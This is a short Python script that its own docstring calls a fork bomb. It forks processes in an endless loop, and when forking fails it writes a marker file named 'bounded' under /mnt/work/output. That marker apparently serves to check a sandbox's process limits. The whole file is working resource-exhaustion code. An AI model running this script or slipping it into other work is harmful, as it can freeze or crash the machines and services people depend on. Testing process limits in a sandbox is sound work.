"""A fork bomb: as many processes as there may be, each trying for more."""

import os
import time
from pathlib import Path

work = Path("/mnt/work")
while True:
    try:
        os.fork()
    except OSError:
        (work / "output" / "bounded").touch()
        time.sleep(0.1)
